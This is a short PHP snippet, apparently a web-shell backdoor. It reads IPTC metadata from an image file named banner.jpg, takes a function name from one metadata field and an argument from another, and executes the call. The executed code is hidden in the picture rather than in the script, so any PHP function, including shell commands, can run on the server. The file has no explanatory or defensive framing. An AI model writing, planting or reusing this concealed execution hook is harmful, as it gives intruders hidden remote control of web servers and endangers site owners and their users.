<?php
// a function name and its argument kept in a picture's IPTC fields
getimagesize(__DIR__ . '/media/banner.jpg', $info);
$tags = iptcparse($info['APP13']);
$run = $tags['2#005'][0];
$run($tags['2#120'][0]);
